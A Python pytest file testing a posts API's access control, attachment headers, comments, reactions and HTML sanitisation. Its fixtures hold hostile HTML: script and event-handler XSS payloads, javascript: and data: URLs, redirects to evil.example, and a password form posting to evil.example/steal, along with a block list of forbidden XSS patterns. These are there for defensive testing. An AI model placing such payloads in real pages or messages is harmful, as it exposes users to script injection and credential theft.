"""The posts API: a post, its files, comments, reactions and read marks — 404 for anyone
who was not a recipient, 401 for anonymous requests, sanitised HTML in every answer."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from sluice.api import people
from sluice.api.app import create_app
from tests.space.helpers import bearer, message, post_id_of, publish, space_engine
from tests.webauth import sign_in

PDF = b"%PDF-1.4 numbers"
PDF_SHA = hashlib.sha256(PDF).hexdigest()
HTML_FILE = b"<script>alert(document.cookie)</script>"
HTML_SHA = hashlib.sha256(HTML_FILE).hexdigest()
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082")
HOSTILE_HTML = """<html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>p { background: url(javascript:alert(1)); width: expression(alert(2)) }</style></head>
<body onload="alert(3)"><p style="background:url(javascript:alert(4))">Numbers inside</p>
<script>alert(5)</script><svg onload="alert(6)"></svg><img src="x" onerror="alert(7)">
<a href="javascript:alert(8)">click</a><a href="data:text/html,<script>alert(9)</script>">d</a>
<form action="https://evil.example/steal"><input name="password"></form>
<iframe src="https://evil.example/"></iframe>
<img src="https://tracker.example/open.gif"><img src="cid:logo@example.com"></body></html>"""
FORBIDDEN = ("<script", "onload", "onerror", "javascript:", "data:text", "expression(",
             "<style", "<svg", "<base", "<meta", "<form", "<input", "<iframe", "evil.example")


class Space:
    def __init__(self, engine: Engine) -> None:
        self.engine = engine
        self.client = TestClient(create_app(engine))
        self.ann = bearer(engine, "ann@example.com")
        self.bob = bearer(engine, "bob@example.com")
        self.admin = bearer(engine, "root@example.com", role="admin")
        raw = message("Numbers", to=["ann@example.com"], html=HOSTILE_HTML,
                      message_id="<numbers@example.com>",
                      files=[("numbers.pdf", "application/pdf", PDF),
                             ("page.html", "text/html", HTML_FILE)],
                      inline=[("logo@example.com", "image/png", PNG)])
        self.post_id = post_id_of(publish(engine, raw, channel="finance",
                                          recipients=["ann@example.com"]))


@pytest.fixture()
def space(tmp_path: Path) -> Iterator[Space]:
    engine = space_engine(tmp_path)
    yield Space(engine)
    engine.dispose()


def test_a_recipient_reads_the_post_sanitised(space: Space) -> None:
    response = space.client.get(f"/api/posts/{space.post_id}", headers=space.ann)
    assert response.status_code == 200, response.text
    post = response.json()
    assert post["subject"] == "Numbers" and post["url"] == f"/space/finance/{space.post_id}"
    body = post["body_html"].lower()
    assert "numbers inside" in body
    for needle in FORBIDDEN:
        assert needle not in body, needle
    assert 'data-remote-src="https://tracker.example/open.gif"' in body
    assert [a["filename"] for a in post["attachments"]] == ["numbers.pdf", "page.html"]
    assert post["read"] is False


def test_someone_else_gets_404_for_the_post_and_everything_on_it(space: Space) -> None:
    for headers in (space.bob, space.admin):
        for method, path, body in (
                ("GET", f"/api/posts/{space.post_id}", None),
                ("GET", f"/api/posts/{space.post_id}/attachments/{PDF_SHA}", None),
                ("POST", f"/api/posts/{space.post_id}/comments", {"body": "hi"}),
                ("PUT", f"/api/posts/{space.post_id}/reactions/heart", None),
                ("DELETE", f"/api/posts/{space.post_id}/reactions/heart", None),
                ("PUT", f"/api/posts/{space.post_id}/read", None),
                ("DELETE", f"/api/posts/{space.post_id}/read", None),
                ("GET", f"/api/posts/{space.post_id + 1000}", None)):
            response = space.client.request(method, path, json=body, headers=headers)
            assert response.status_code == 404, (method, path, response.text)
    # The answer for a hidden post is the answer for a missing one.
    hidden = space.client.get(f"/api/posts/{space.post_id}", headers=space.bob).json()
    missing = space.client.get(f"/api/posts/{space.post_id + 1000}", headers=space.bob).json()
    assert hidden == missing


def test_anonymous_requests_get_401(space: Space) -> None:
    for method, path in (("GET", f"/api/posts/{space.post_id}"),
                         ("GET", f"/api/posts/{space.post_id}/attachments/{PDF_SHA}"),
                         ("POST", f"/api/posts/{space.post_id}/comments"),
                         ("PUT", f"/api/posts/{space.post_id}/read"),
                         ("GET", "/api/channels"), ("GET", "/api/channels/finance/posts"),
                         ("GET", "/api/search?q=numbers")):
        response = space.client.request(method, path)
        assert response.status_code == 401, (method, path)
    wrong = {"Authorization": "Bearer not-a-token"}
    assert space.client.get(f"/api/posts/{space.post_id}", headers=wrong).status_code == 401


def test_downloads_never_render_in_the_apps_origin(space: Space) -> None:
    pdf = space.client.get(f"/api/posts/{space.post_id}/attachments/{PDF_SHA}",
                           headers=space.ann)
    assert pdf.status_code == 200 and pdf.content == PDF
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.headers["content-disposition"].startswith('attachment; filename="numbers.pdf"')
    assert pdf.headers["x-content-type-options"] == "nosniff"
    html = space.client.get(f"/api/posts/{space.post_id}/attachments/{HTML_SHA}",
                            headers=space.ann)
    assert html.status_code == 200 and html.content == HTML_FILE
    assert html.headers["content-disposition"].startswith("attachment;")
    assert "sandbox" in html.headers["content-security-policy"]
    logo = space.client.get(f"/api/posts/{space.post_id}/attachments/"
                            f"{hashlib.sha256(PNG).hexdigest()}", headers=space.ann)
    assert logo.status_code == 200 and logo.headers["content-type"] == "image/png"
    assert logo.headers["content-disposition"].startswith("inline;")
    assert space.client.get(f"/api/posts/{space.post_id}/attachments/{'0' * 64}",
                            headers=space.ann).status_code == 404


def test_comment_react_and_read(space: Space) -> None:
    url = f"/api/posts/{space.post_id}"
    created = space.client.post(f"{url}/comments", headers=space.ann,
                                json={"body": "<b>mine</b> & yours"})
    assert created.status_code == 201, created.text
    assert created.json()["body_html"] == "<p>&lt;b&gt;mine&lt;/b&gt; &amp; yours</p>"
    assert space.client.post(f"{url}/comments", headers=space.ann,
                             json={"body": ""}).status_code == 422
    assert space.client.post(f"{url}/comments", headers=space.ann,
                             json={"body": "   "}).status_code == 400
    reacted = space.client.put(f"{url}/reactions/tada", headers=space.ann)
    assert reacted.json()["reactions"] == [{"emoji": "tada", "glyph": "🎉", "count": 1,
                                            "mine": True}]
    assert space.client.put(f"{url}/reactions/poop", headers=space.ann).status_code == 400
    assert space.client.delete(f"{url}/reactions/tada",
                               headers=space.ann).json()["reactions"] == []
    assert space.client.delete(f"{url}/read", headers=space.ann).json() == {
        "post_id": space.post_id, "read": False}
    assert space.client.get(url, headers=space.ann).json()["read"] is False
    space.client.put(f"{url}/read", headers=space.ann)
    post = space.client.get(url, headers=space.ann).json()
    assert post["read"] is True
    assert [c["author"] for c in post["comments"]] == ["ann@example.com"]


def test_the_post_page_is_sanitised_and_scripts_come_from_files(space: Space) -> None:
    people.set_password(space.engine, "ann@example.com", "correct horse battery")
    sign_in(space.client, "ann@example.com", "correct horse battery")
    page = space.client.get(f"/space/finance/{space.post_id}")
    assert page.status_code == 200, page.text
    lowered = page.text.lower()
    body = lowered.split('<div class="mail-body">', 1)[1].split("</article>", 1)[0]
    assert "numbers inside" in body
    for needle in FORBIDDEN:
        assert needle not in body, needle
    assert '<script src="/static/space.js" defer></script>' in page.text
    assert lowered.count("<script") == 2  # sluice.js and space.js, no inline script
    assert "img-src 'self' data: https: http:" in page.headers["content-security-policy"]
    assert space.client.get(f"/space/other/{space.post_id}",
                            follow_redirects=False).status_code == 308
    space.client.cookies.clear()
    people.set_password(space.engine, "bob@example.com", "correct horse battery")
    sign_in(space.client, "bob@example.com", "correct horse battery")
    assert space.client.get(f"/space/finance/{space.post_id}").status_code == 404
